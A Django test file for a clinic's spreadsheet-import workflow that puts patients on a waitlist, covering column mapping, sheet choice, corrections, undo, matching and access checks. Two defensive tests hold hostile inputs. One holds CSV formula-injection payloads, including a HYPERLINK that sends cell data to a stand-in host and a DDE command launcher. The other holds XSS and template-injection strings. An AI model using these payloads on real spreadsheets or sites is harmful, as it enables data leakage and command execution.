"""*Import a spreadsheet*, from the file to the list and back, as staff go through its pages."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from audit.models import AccessRecord
from scheduling.models import Patient
from tests.desk.conftest import Practice
from tests.desk.pages import records, said, text_of
from tests.waitlist.test_importing_files import several
from waitlist.models import ConsentRecord, ImportBatch, WaitlistEntry

ADD = "/admin/waitlist/importbatch/add/"
HEAD = "Apellidos,Nombre,Fecha de nacimiento,Celular,Tipo de cita,Desde,Seguro"
GOOD = "Ng,Al,3/15/1980,2125550102,Follow-up,1/5/2026,Acme"
NONE = {"consent": "none"}


def at(batch: ImportBatch, page: str, *more: Any) -> str:
    return reverse(f"admin:waitlist_importbatch_{page}", args=[batch.pk, *more])


def uploaded(client: Client, file: SimpleUploadedFile) -> ImportBatch:
    page = client.get(ADD)
    assert page.status_code == 200
    place = re.search(r'<option value="(\d+)"[^>]*>Riverside', page.content.decode())
    assert place
    response = client.post(ADD, {"file": file, "location": place[1]})
    batch = ImportBatch.objects.latest("pk")
    assert (response.status_code, response.url) == (302, at(batch, "columns")), response.content[-3000:]
    return batch


def brought(client: Client, *rows: str, head: str = HEAD, **said_of_it: str) -> ImportBatch:
    """Upload rows through the page and confirm the guess."""
    batch = uploaded(client, SimpleUploadedFile("list.csv", "\n".join([head, *rows]).encode()))
    answer = client.post(at(batch, "columns"), {**guessed(client, batch), **NONE, **said_of_it})
    assert (answer.status_code, answer.url) == (302, at(batch, "change")), text_of(answer)
    batch.refresh_from_db()
    return batch


def guessed(client: Client, batch: ImportBatch) -> dict[str, str]:
    """What the page of the columns would send if nothing were changed."""
    form = client.get(at(batch, "columns")).context["form"]
    return {name: form[name].value() or "" for name in form.fields if name.startswith(("column_", "order_"))}


def test_a_list_goes_from_the_file_to_the_waitlist_and_back(dana: Client, practice: Practice) -> None:
    words = text_of(dana.get(reverse("admin:waitlist_waitlistentry_changelist")))
    assert "Import a spreadsheet" in words
    batch = brought(dana, GOOD, "Yu,Mei,1980,2125550103,Follow-up,,")
    words = text_of(dana.get(at(batch, "change")))
    assert "1 with errors 1 ready" in words
    assert "Birth date : This is no date. Write for example 3/14/1980." in words
    assert not WaitlistEntry.objects.exists()
    answer = dana.post(at(batch, "step", "correct"), {"fix-3-birth_date": "3/16/1980", "show": "error"})
    assert said(dana, answer) == "1 corrected row checked: no error is left in them."
    assert "Add 2 to the list" in text_of(dana.get(at(batch, "change")))
    answer = dana.post(at(batch, "step", "add"), {"expected": "2"})
    assert said(dana, answer) == "2 are on the list. You can still undo it."
    assert said(dana, dana.post(at(batch, "step", "add"), {"expected": "2"})).startswith("No row is ready")
    assert WaitlistEntry.objects.filter(status="waiting", added_by="dana").count() == 2
    assert said(dana, dana.post(at(batch, "step", "undo"))) == (
        "Undone: 2 are off the list again, and the consent that was stated of them counts no more."
    )
    undone = text_of(dana.get(at(batch, "change")))
    assert "All of this list are off the waitlist again, and what it stated of consent counts no more." in undone
    assert "No row is ready yet." not in undone
    assert "2 taken off again" in undone
    assert re.search(r"2 added .{0,80}by dana, all taken off again", undone)
    assert undone.count("taken off again") == 4  # the figure, the sentence and each of the rows
    assert "Open the entry" in undone
    assert WaitlistEntry.objects.filter(status="left").count() == 2


def test_nothing_is_pressed_any_more_on_a_list_that_was_undone(dana: Client, practice: Practice) -> None:
    batch = brought(dana, GOOD, "Yu,Mei,1980,2125550103,Follow-up,,")
    dana.post(at(batch, "step", "add"), {"expected": "1"})
    pressed = ("Leave out", "Check what I corrected", "Download the rows with errors", "Check all again")
    before = text_of(dana.get(at(batch, "change")))
    assert all(words in before for words in pressed)
    dana.post(at(batch, "step", "undo"))
    page = dana.get(f"{at(batch, 'change')}?show=error")
    assert [words for words in pressed if words in text_of(page)] == []
    assert "1 with errors 1 taken off again" in text_of(page)
    assert "This is no date." in text_of(page)
    assert 'name="fix-' not in page.content.decode()


def test_the_practice_is_told_which_sheet_is_read_and_chooses_another(dana: Client, practice: Practice) -> None:
    row, other = GOOD.split(","), ["Yu", "Mei", "1980", "2125550103", "Follow-up", "", ""]
    content = several(
        Waitlist=[HEAD.split(","), row], Later=[HEAD.split(","), other, other], Headings=[HEAD.split(",")]
    )
    file = SimpleUploadedFile("book.xlsx", content)
    batch = uploaded(dana, file)
    words = text_of(dana.get(at(batch, "columns")))
    assert "This workbook has 3 sheets; “ Waitlist ” is read" in words
    answer = dana.post(at(batch, "step", "sheet"), {"sheet": "Later"})
    assert said(dana, answer) == "“Later” is read now: 2 rows."
    assert dana.post(at(batch, "columns"), {**guessed(dana, batch), **NONE}).status_code == 302
    words = text_of(dana.get(at(batch, "change")))
    assert "sheet “ Later ” of 3" in words
    assert "2 with errors" in words
    # A sheet that cannot be read, or is not there, changes nothing; a list that is added keeps its sheet.
    answer = dana.post(at(batch, "step", "sheet"), {"sheet": "Headings"})
    assert said(dana, answer).startswith("“Headings” cannot be read, and “Later” stays. The file has headings but no")
    assert said(dana, dana.post(at(batch, "step", "sheet"), {"sheet": "Nowhere"})).startswith("Nothing changed")
    assert batch.rows.count() == 2
    dana.post(at(batch, "step", "sheet"), {"sheet": "Waitlist"})
    batch.refresh_from_db()
    assert (batch.status, [each.cells[0] for each in batch.rows.all()]) == ("columns", ["Ng"])
    dana.post(at(batch, "columns"), {**guessed(dana, batch), **NONE})
    dana.post(at(batch, "step", "add"), {"expected": "1"})
    assert said(dana, dana.post(at(batch, "step", "sheet"), {"sheet": "Later"})).startswith("Nothing changed")
    assert batch.rows.get().cells[0] == "Ng"


def test_what_a_formula_leaves_open_is_asked_for_once_and_taken(dana: Client, practice: Practice) -> None:
    row = ["Ng", "Al", "=DATE(1980,3,15)", "2125550102", "Follow-up", "", ""]
    batch = uploaded(dana, SimpleUploadedFile("book.xlsx", several(Waitlist=[HEAD.split(","), row])))
    dana.post(at(batch, "columns"), {**guessed(dana, batch), **NONE})
    page = dana.get(at(batch, "change"))
    assert page.content.decode().count('name="fix-2-birth_date"') == 1
    assert "This is a formula without a stored value" in text_of(page)
    answer = dana.post(at(batch, "step", "correct"), {"fix-2-birth_date": "3/15/1980", "show": "error"})
    assert said(dana, answer) == "1 corrected row checked: no error is left in them."


def test_a_file_that_cannot_be_read_or_is_too_large_is_refused_kindly(maria: Client, practice: Practice) -> None:
    answer = maria.post(ADD, {"file": SimpleUploadedFile("a.xls", b"\xd0\xcf\x11\xe0" + b"x" * 99)})
    assert "This is an old Excel file (.xls)" in text_of(answer)
    huge = SimpleUploadedFile("a.csv", b"x" * (6 * 1024 * 1024 + 1))
    assert "Choose a file of at most 5 MB. Nothing was stored." in text_of(maria.post(ADD, {"file": huge}))
    assert not ImportBatch.objects.exists()


def test_the_page_asks_for_what_the_file_leaves_open(dana: Client, practice: Practice) -> None:
    file = SimpleUploadedFile("a.csv", b"Name,DOB,Phone,Reason\nNg Al,03/04/1980,2125550102,F/U\n")
    dana.post(ADD, {"file": file, "location": practice.riverside.pk})
    batch = ImportBatch.objects.get()
    words = text_of(dana.get(at(batch, "columns")))
    assert "Its dates can be read both ways, such as 03/04/1980." in words
    assert "“F/U”" in words
    answer = dana.post(at(batch, "columns"), {**guessed(dana, batch), "column_1": "note", "consent": "form"})
    words = text_of(answer)
    for text in ("No column is “Birth date”", "Say which form they signed.", "Say when it was signed or said."):
        assert text in words
    told = {**guessed(dana, batch), **NONE, "order_1": "day", "type_word_0": str(practice.followup.pk)}
    assert dana.post(at(batch, "columns"), told).url == at(batch, "change")
    dana.post(at(batch, "step", "add"), {"expected": "1"})
    assert WaitlistEntry.objects.get().patient.birth_date == date(1980, 4, 3)


def test_staff_say_who_somebody_is_with_both_side_by_side(dana: Client, practice: Practice) -> None:
    known = practice.patient
    assert known.birth_date
    phone = known.contact_points.get(system="phone").value
    batch = brought(dana, f"Alvarez,Robin,{known.birth_date.isoformat()},{phone},Follow-up,,")
    words = text_of(dana.get(at(batch, "change")))
    assert "may be this person: the same birth date, family name and first initial" in words
    assert "Robin Alvarez , born Jan 1, 1980" in words
    assert records("list", user_id__isnull=False) == [("scheduling.patient", str(known.pk))]
    assert said(dana, dana.post(at(batch, "step", "alike"))) == "1 row is the patient proposed. Nothing was merged."
    dana.post(at(batch, "step", "add"), {"expected": "1"})
    assert WaitlistEntry.objects.get().patient == known
    assert Patient.objects.count() == 2


def test_a_candidate_of_another_location_is_neither_named_nor_taken(dana: Client, practice: Practice) -> None:
    theirs = practice.their_patient
    batch = brought(dana, "Elsewhere,Thea,1/1/1980,2125550107,Follow-up,,")
    words = text_of(dana.get(at(batch, "change")))
    assert "1 more at a location you do not see." in words
    answer = dana.post(at(batch, "step", "decide"), {"row": "2", "patient": str(theirs.pk)})
    assert answer.status_code == 404
    assert records("denied") == [("scheduling.patient", str(theirs.pk))]


def test_a_list_belongs_to_its_location(maria: Client, dana: Client, practice: Practice) -> None:
    dana.post(ADD, {"file": SimpleUploadedFile("a.csv", b"Name,DOB\nA B,3/4/1980\n"), "location": practice.lakeview.pk})
    assert not ImportBatch.objects.exists()
    theirs = brought(maria, GOOD)
    ImportBatch.objects.filter(pk=theirs.pk).update(location=practice.lakeview)
    for page in ("change", "columns", "live", "errors"):
        assert dana.get(at(theirs, page)).status_code == 404
    assert dana.post(at(theirs, "step", "add"), {"expected": "1"}).status_code == 404
    assert not WaitlistEntry.objects.exists()


def test_nobody_is_put_where_who_brings_the_list_does_not_work(dana: Client, practice: Practice) -> None:
    batch = brought(dana, f"{GOOD},Lakeview", f"{GOOD.replace('Ng', 'Roe')},Riverside", head=f"{HEAD},Sede")
    assert list(batch.rows.order_by("number").values_list("verdict", flat=True)) == ["error", "ready"]
    page = text_of(dana.get(at(batch, "change")))
    assert "No location of yours is called this. Write one of: Riverside; empty for any." in page


def test_no_cell_of_the_file_of_errors_is_a_formula_and_it_can_be_uploaded_again(
    dana: Client, practice: Practice
) -> None:
    nasty = '=HYPERLINK("http://x/"&A2),+Al,@3/15/1980,-2125550102,"\t=cmd|\' /C calc\'!A0",,=1'
    batch = brought(dana, GOOD, nasty, head=HEAD.replace("Seguro", "=Seguro"))
    response = dana.get(at(batch, "errors"))
    assert response["Content-Type"].startswith("text/csv")
    assert AccessRecord.objects.filter(action="export", subject_id=str(batch.pk)).exists()
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[-2] for row in rows] == [f"Row of list {batch.pk}", "3"]
    cells = [cell for row in rows for cell in row if cell]
    assert [cell for cell in cells if cell[0] in "=+-@\t\r"] == []
    assert rows[1][0] == '\'=HYPERLINK("http://x/"&A2)'
    again = SimpleUploadedFile("again.csv", response.content)
    answer = dana.post(ADD, {"file": again, "location": practice.riverside.pk})
    assert said(dana, answer) == "1 row is in the file as before."
    assert ImportBatch.objects.get().rows.get(number=3).cells[0] == '=HYPERLINK("http://x/"&A2)'


def test_odd_names_are_shown_as_text(dana: Client, practice: Practice) -> None:
    batch = brought(dana, '<script>alert(1)</script>,{{7*7}}\u202e,1980,"""><img src=x>",Follow-up,,')
    page = dana.get(at(batch, "change")).content.decode()
    assert "<script>alert" not in page
    assert "<img" not in page.partition('id="content"')[2]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "{{7*7}}" in page


def test_consent_is_recorded_with_the_name_of_who_said_so(dana: Client, practice: Practice) -> None:
    before = ConsentRecord.objects.count()
    batch = brought(dana, GOOD, consent="form", consent_form="form 7", consent_on="3/1/2026")
    dana.post(at(batch, "step", "add"), {"expected": "1"})
    line = ConsentRecord.objects.latest("pk")
    assert (ConsentRecord.objects.count(), line.recorded_by) == (before + 1, "dana")
    assert line.statement == f"Imported list {batch.pk}: A signed form, form 7, Mar 1, 2026"


def test_what_is_on_no_list_yet_can_be_thrown_away_and_a_get_changes_nothing(dana: Client, practice: Practice) -> None:
    batch = brought(dana, GOOD)
    assert dana.get(at(batch, "step", "add")).status_code == 405
    assert said(dana, dana.post(at(batch, "step", "discard"))).startswith("Discarded")
    batch.refresh_from_db()
    assert (batch.status, batch.content, batch.rows.count()) == ("discarded", None, 0)
    assert "The file and its rows are deleted." in text_of(dana.get(at(batch, "change")))
